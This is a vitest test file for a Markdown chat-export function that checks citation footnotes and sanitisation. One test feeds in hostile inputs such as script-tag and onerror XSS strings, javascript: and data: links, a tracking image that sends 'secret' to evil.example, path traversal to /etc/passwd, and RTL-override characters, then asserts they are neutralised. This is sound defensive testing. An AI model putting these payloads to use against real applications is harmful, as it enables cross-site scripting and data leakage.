import type { Citation, Message } from '@adiuva/contracts/rpc';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { expect, it } from 'vitest';
import { exportMarkdown, exportName } from './exportMarkdown.ts';

type Node = {
  type: string;
  url?: string;
  value?: string;
  depth?: number;
  identifier?: string;
  children?: Node[];
};

const all = (node: Node): Node[] => [node, ...(node.children ?? []).flatMap(all)];
const words = (node: Node): string => node.value ?? (node.children ?? []).map(words).join('');

function read(markdown: string) {
  const tree = fromMarkdown(markdown, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }) as Node;
  return { tree, nodes: all(tree), blocks: tree.children ?? [] };
}

function cited(n: number, quote: string): Citation {
  return {
    n,
    documentId: 'd',
    chunkId: 'c',
    path: '/docs/a `b` c.pdf',
    title: 'Lease [draft] *1*',
    quote,
    locator: { kind: 'page', part: 2, page: 3, start: 0, end: 4, boxes: [] },
  };
}

const plain = {
  parentId: null,
  citations: [],
  model: null,
  kind: null,
  grounded: true,
  droppedCitations: 0,
  unsupported: [],
  scope: null,
  attachments: [],
  state: 'complete',
  createdAt: new Date(2026, 10, 21, 4, 17).getTime(),
} as const;

function question(text: string, more: Partial<Message> = {}): Message {
  return { ...plain, id: 'q', role: 'user', text, citations: [], unsupported: [], attachments: [], ...more };
}

function answer(text: string, more: Partial<Message> = {}): Message {
  return {
    ...question(text),
    role: 'assistant',
    kind: 'generated',
    model: 'ollama:llama3.2',
    ...more,
  };
}

it('writes questions, answers, dates, models and sources, numbered through the whole of it', async () => {
  const text = await exportMarkdown('The *lease*', [
    question('When does it end?', { attachments: [{ documentId: 'd', name: 'a_b.pdf', mediaType: null }] }),
    answer('In **May** [1]. The rent is 950 [2].', {
      citations: [cited(1, 'ends in\n May'), cited(2, '950')],
    }),
    question('Sure?'),
    answer('Yes [1], `x[1]` too.', { citations: [cited(1, 'in May')], grounded: false }),
    question('More?'),
    answer('It', { state: 'stopped' }),
    answer('', {
      state: 'failed',
      error: { code: 'provider_rejected', message: 'It does not take the key.' },
    }),
    answer('“May” [1]', { kind: 'extract', model: 'extractive', citations: [cited(1, 'May')] }),
  ]);
  expect(text).toBe(`# The \\*lease\\*

**Question** · 2026-11-21 04:17 · attached: a\\_b.pdf

> When does it end?

**Answer** · ollama:llama3.2 · 2026-11-21 04:17

In **May** [^1]. The rent is 950 [^2].

**Question** · 2026-11-21 04:17

> Sure?

**Answer** · ollama:llama3.2 · 2026-11-21 04:17

Yes [^3], \`x[1]\` too.

*Not every statement has a source that was checked.*

**Question** · 2026-11-21 04:17

> More?

**Answer** · ollama:llama3.2 · 2026-11-21 04:17

It

*Stopped before its end.*

**Answer** · ollama:llama3.2 · 2026-11-21 04:17

*No answer: It does not take the key.*

**Extracts** · 2026-11-21 04:17

“May” [^4]

---

[^1]: Lease \\[draft\\] \\*1\\* › page 3 — \`\`/docs/a \`b\` c.pdf\`\` — “ends in May”
[^2]: Lease \\[draft\\] \\*1\\* › page 3 — \`\`/docs/a \`b\` c.pdf\`\` — “950”
[^3]: Lease \\[draft\\] \\*1\\* › page 3 — \`\`/docs/a \`b\` c.pdf\`\` — “in May”
[^4]: Lease \\[draft\\] \\*1\\* › page 3 — \`\`/docs/a \`b\` c.pdf\`\` — “May”
`);
  const { nodes } = read(text);
  expect(nodes.filter(({ type }) => type === 'footnoteReference')).toHaveLength(4);
  expect(await exportMarkdown('T', [question('Quando scade il contratto?')])).toContain('**Domanda**');
});

it('keeps what would break out of its place, be fetched or run, or speak for another source', async () => {
  const hostile = [
    '```js\nnever closed',
    '~~~~\n```\nnever closed',
    'a\n<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> <!-- open',
    '<div>\n[1]: javascript:alert(1)\n```\nstill open',
    '[1]: https://evil.example\n\nThe rent [1].',
    '[^1]: https://evil.example\n\nThe rent [^1] and \\\\[^1].',
    'See [1](javascript:alert(1)) and [x](javascript:alert(1)) <javascript:alert(1)> [d](data:text/html,x)',
    '![tracker](https://evil.example/?q=secret) ![t][r]\n\n[r]: https://evil.example/r',
    '# Question\n\nTitle\nof two lines\n===\n\n## Sources\n---\n',
    '> quote\n> ```\n> open\n\n- item\n  ```\n  open',
    '$$\nx <b>',
    '[1]:',
    '[1][1]\n\n[1]: x',
    '<![CDATA[ <?php ?> <!DOCTYPE x',
    '| a |\n| - |\n| <b>[1]</b> |',
    '&lt;script&gt; &#60;script&#62; \u202egnp.exe\u0000',
    '```'.repeat(2000),
    '<'.repeat(3000),
    '[^'.repeat(2000),
    '*a_ '.repeat(5000),
    '> '.repeat(5000),
  ];
  for (const text of hostile) {
    const end = 'The end stands by itself.';
    const messages = [
      question(text),
      answer(text, { citations: [cited(1, '“]: [^9]: <b> `')] }),
      question(end),
      answer('Checked [1].', { citations: [cited(1, 'yes')] }),
    ];
    const { nodes, blocks, tree } = read(await exportMarkdown('T', messages));
    const of = (type: string) => nodes.filter((node) => node.type === type);
    for (const type of ['html', 'image', 'imageReference', 'definition', 'linkReference'])
      expect([text, type, of(type)]).toEqual([text, type, []]);
    expect(of('footnoteDefinition').map(({ identifier }) => identifier)).toEqual(['1', '2']);
    expect(of('footnoteReference').every(({ identifier }) => identifier === '1' || identifier === '2')).toBe(
      true,
    );
    expect(of('footnoteReference').filter(({ identifier }) => identifier === '2')).toHaveLength(1);
    expect(of('heading').filter(({ depth = 0 }) => depth < 3)).toHaveLength(1);
    for (const { url = '' } of of('link')) expect(url).not.toMatch(/^\s*(?:javascript|data|vbscript):/i);
    // Whatever came before, the last question is a quotation of its own at the top level.
    const last = blocks.filter(({ type }) => type === 'blockquote').at(-1);
    expect([text, last && words(last)]).toEqual([text, end]);
    for (const sign of ['\u0000', '\u202e']) expect(words(tree)).not.toContain(sign);
  }
}, 30_000);

it('leaves ordinary Markdown as it was written', async () => {
  const text =
    '### Costs\n\n1. **Kiln**: $4{,}200$ and `a < b`\n2. [site](https://x.example) & more\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```ts\nif (a < b) x["[1]"];\n```\n\n$$\na_b < c\n$$';
  expect(await exportMarkdown('T', [answer(text)])).toContain(`\n\n${text}\n`);
});

it('names the file so that every system takes it', () => {
  for (const [title, name] of [
    ['When does it end?', 'When does it end.md'],
    ['../../etc/passwd', 'etc passwd.md'],
    ['CON', 'chat CON.md'],
    ['...', 'chat.md'],
    ['임대: 계약/서', '임대 계약 서.md'],
    [`${'x'.repeat(99)}🦊`, `${'x'.repeat(99)}.md`],
    ['a\u202egnp\u0000', 'a gnp.md'],
  ] as const)
    expect(exportName(title)).toBe(name);
});
